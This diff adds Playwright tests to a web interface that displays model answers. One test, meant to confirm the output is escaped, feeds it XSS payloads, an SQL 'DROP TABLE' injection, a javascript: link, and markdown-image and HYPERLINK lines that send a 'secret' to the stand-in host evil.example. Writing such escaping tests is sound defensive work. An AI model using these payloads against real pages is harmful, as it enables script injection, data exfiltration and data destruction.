@@ -125,3 +125,66 @@ def test_a_written_answer_is_reviewed_by_a_text(
     card.get_by_role("button", name=say("review.save")).click()
     card.get_by_text(say("review.changed", label=better)).wait_for()
     assert made == [("change", better)]
+
+
+@pytest.mark.parametrize("lang", ["en", "zh"])
+def test_the_passage_of_an_answer_opens_below_it_and_is_plain_text(
+    house: House, open_page: OpenPage, monkeypatch: pytest.MonkeyPatch, lang: str
+) -> None:
+    say = Strings("zh" if lang == "zh" else "en")
+    _serve(house[0], monkeypatch, "question-answering", WRITTEN[lang][1])
+    answer, passage = house[0]._answer, f"<b>{WRITTEN[lang][0]}</b>"
+    monkeypatch.setattr(
+        house[0], "_answer", lambda *asked: replace(answer(*asked), source="rec", passage=passage)
+    )
+    card = _ask(open_page(lang=lang, width=360), ASKED[lang])
+    quote = card.locator("details blockquote")
+    assert not quote.is_visible()
+    card.get_by_text(say("ask.passage")).press("Enter")
+    assert quote.inner_text() == passage
+    monkeypatch.setattr(house[0], "_answer", answer)
+    card = _ask(open_page(lang=lang), ASKED[lang])
+    assert not card.get_by_text(say("ask.passage")).is_visible()
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "<img src=x onerror=alert(1)> 你好",
+        "<script>alert(1)</script>",
+        "</template><svg onload=alert(1)>",
+        "![a](https://evil.example/?q=secret) [b](javascript:alert(1))",
+        "'; DROP TABLE predictions; --",
+        '=HYPERLINK("https://evil.example","here")',
+    ],
+)
+def test_what_a_model_writes_is_text_on_every_page_that_shows_it(
+    house: House, open_page: OpenPage, monkeypatch: pytest.MonkeyPatch, said: str
+) -> None:
+    _serve(house[0], monkeypatch, "generation", said)
+    page = open_page()
+    alerts: list[str] = []
+
+    def dismiss(dialog: Any) -> None:
+        alerts.append(dialog.message)
+        dialog.dismiss()
+
+    page.on("dialog", dismiss)
+    card = _ask(page, ASKED["en"])
+    assert card.locator("h2").inner_text() == said
+    item = ReviewItem(id="item", kind="unsure", text=ASKED["en"], answer=said, proposed=said)
+    monkeypatch.setattr(house[0], "review_items", lambda **_: [item])
+    why = card.locator("[data-slot=why]").get_attribute("href")
+    for path in ("/review", why):
+        page.goto(house[1] + path)
+        page.wait_for_load_state("networkidle")
+        assert (
+            page.locator(
+                "main img, main svg[onload], main script:not([src], [type='application/json'])"
+            ).count()
+            == 0
+        )
+        assert page.locator("main a[href*='evil'], main a[href^='javascript']").count() == 0
+        if path == "/review":
+            assert said in page.locator("main").inner_text()
+    assert alerts == []
